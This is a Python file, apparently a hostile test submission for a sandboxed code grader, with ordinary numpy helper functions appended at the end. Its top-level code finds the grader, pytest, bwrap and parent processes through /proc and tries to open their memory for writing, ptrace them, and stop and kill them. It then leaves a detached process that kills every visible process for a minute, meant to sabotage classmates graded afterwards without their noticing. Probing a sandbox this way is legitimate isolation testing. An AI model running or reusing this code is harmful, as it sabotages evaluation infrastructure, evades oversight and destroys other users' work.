"""Goes after what serves every submission of its job slot: finds the worker host (the
zygote) and the grader, tries to write into their memory, trace them, stop them and
kill them, then leaves a process behind that kills every later worker it can see.
A classmate graded after it in the same slot must not notice any of it."""
import ctypes
import os
import signal
import time

import numpy as np

PTRACE_ATTACH = 16
libc = ctypes.CDLL(None, use_errno=True)


def others():
    """pid -> command line of every process this one can see, but itself."""
    found = {}
    try:
        entries = os.listdir("/proc")
    except OSError as exc:
        print("refused listing /proc", type(exc).__name__)
        entries = []
    for entry in entries:
        if entry.isdigit() and int(entry) != os.getpid():
            try:
                with open(f"/proc/{entry}/cmdline", "rb") as f:
                    found[int(entry)] = f.read().replace(b"\0", b" ").decode(errors="replace")
            except OSError:
                found[int(entry)] = "?"
    return found


targets = {pid: cmd for pid, cmd in others().items() if "grader" in cmd or "pytest" in cmd or "bwrap" in cmd}
targets[os.getppid()] = "parent"
for pid in sorted(targets):
    if pid <= 0:
        continue
    try:
        with open(f"/proc/{pid}/mem", "r+b") as mem:
            print("LEAK opened the memory of", pid, targets[pid][:60])
    except OSError as exc:
        print("refused memory", pid, type(exc).__name__)
    if libc.ptrace(PTRACE_ATTACH, pid, None, None) == 0:
        print("LEAK traced", pid)
    else:
        print("refused ptrace", pid, os.strerror(ctypes.get_errno()))
    for sig in (signal.SIGSTOP, signal.SIGKILL):
        try:
            os.kill(pid, sig)
            print("LEAK signalled", pid, sig.name, targets[pid][:60])
        except OSError as exc:
            print("refused", sig.name, pid, type(exc).__name__)

# Something that outlives this submission and kills whatever comes next.
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        deadline = time.monotonic() + 60
        while time.monotonic() < deadline:
            for pid in others():
                try:
                    os.kill(pid, signal.SIGKILL)
                except OSError:
                    pass
            time.sleep(0.01)
        os._exit(0)
    os._exit(0)


def scale(x, k):
    return x * k


def relu_forward(x):
    return np.maximum(x, 0)


def total(x):
    return float(x.sum())
